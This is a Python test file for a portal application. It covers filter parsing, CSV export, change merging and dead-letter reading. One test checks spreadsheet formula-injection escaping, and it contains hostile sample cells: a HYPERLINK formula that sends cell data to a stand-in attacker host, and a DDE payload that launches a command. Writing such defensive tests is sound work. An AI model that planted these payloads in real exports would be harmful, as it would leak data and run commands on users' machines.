"""Filters, CSV tables, projection merging and dead-letter parsing, without I/O."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from fastapi import HTTPException
from spin_portal.adapters.projection import Changes
from spin_portal.adapters.read_model import dead_letter_row
from spin_portal.adapters.tables import CONSENTS
from spin_portal.domain.filters import Filters
from spin_portal.web.filters import parse_filters
from spin_portal.web.tables_view import DataTable, cell_text, rate_colour, rate_text
from spincore.batches import RawRecord
from spincore.kafka import DeadLetter


def test_filters_parse_months_and_ids() -> None:
    filters = parse_filters("2026-01", "2026-03", "site-1", None)
    assert filters == Filters(date(2026, 1, 1), date(2026, 3, 1), "site-1", None)
    assert filters.query() == {"from": "2026-01", "to": "2026-03", "site": "site-1"}
    assert parse_filters(None, "", None, None) == Filters()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("2026-1", None, None, None), "from must be a month written like 2026-01"),
        ((None, "2026-00", None, None), "to must be a month written like 2026-01"),
        (("2026-04", "2026-02", None, None), "the 'from' month must not be after the 'to' month"),
        ((None, None, "Site One", None), "site must be an id"),
        ((None, None, None, "<script>"), "practitioner must be an id"),
    ],
)
def test_bad_filters_are_400_with_a_reason(args: tuple[str | None, ...], message: str) -> None:
    with pytest.raises(HTTPException) as raised:
        parse_filters(*args)
    assert raised.value.status_code == 400
    assert message in str(raised.value.detail)


def test_tables_write_csv_with_rates_as_shares() -> None:
    table = DataTable("sites", "Sites", ["Site", "Cases", "Composite"])
    table.add(["Office, north", 3, 0.6666], "/sites/site-1")
    table.add(["Office 2", 0, None])
    assert table.to_csv().splitlines() == [
        "Site,Cases,Composite",
        '"Office, north",3,0.667',
        "Office 2,0,",
    ]
    assert cell_text(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)) == "Jan 2, 2026 3:04\u202fAM"
    assert cell_text(None) == ""
    assert rate_text(None) == "n/a"
    assert rate_text(0.666) == "67%"
    assert rate_colour(1.0) == "hsl(120, 70%, 78%)"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text() -> None:
    table = DataTable("practitioners", "Practitioners", ["Practitioner", "Site", "Change"])
    table.add(['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", -2])
    table.add(["+31 6 1234", "-north", 0.5])
    table.add(["\tTabbed", "\rReturned", None])
    table.add(["Ann = Bob", "site@home", 3])
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows[1:] == [
        ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', "'@SUM(1+1)*cmd|' /C calc'!A0", "-2"],
        ["'+31 6 1234", "'-north", "0.500"],
        ["'\tTabbed", "'\rReturned", ""],
        ["Ann = Bob", "site@home", "3"],
    ]


def test_changes_merge_partial_rows_of_one_entity() -> None:
    changes = Changes()
    withdrawn = datetime(2026, 2, 1, tzinfo=UTC)
    granted = datetime(2026, 1, 1, tzinfo=UTC)
    changes.put(CONSENTS, consent_id=1, case_code="C-1", purpose="filming", withdrawn_at=withdrawn)
    changes.put(
        CONSENTS,
        consent_id=1,
        case_code="C-1",
        purpose="filming",
        granted_at=granted,
        withdrawn_at=None,
    )
    assert changes.rows[CONSENTS][(1,)] == {
        "consent_id": 1,
        "case_code": "C-1",
        "purpose": "filming",
        "withdrawn_at": withdrawn,
        "granted_at": granted,
    }


def test_dead_letters_are_read_for_the_pipeline_page() -> None:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    letter = DeadLetter(
        source_topic="spin.planner.v1",
        consumer="portal-read-model",
        reason="unknown event session.recorded v9",
        payload='{"event_type": "session.recorded", '
        '"tenant": {"institute_id": "i", "agency_id": "a"}}',
    )
    row = dead_letter_row(RawRecord(0, 7, at, letter.model_dump_json().encode()))
    assert (row["event_type"], row["agency_id"], row["offset"]) == ("session.recorded", "a", 7)
    garbage = dead_letter_row(RawRecord(0, 8, at, b"\xff not json"))
    assert garbage["reason"] == "the dead letter itself is unreadable"
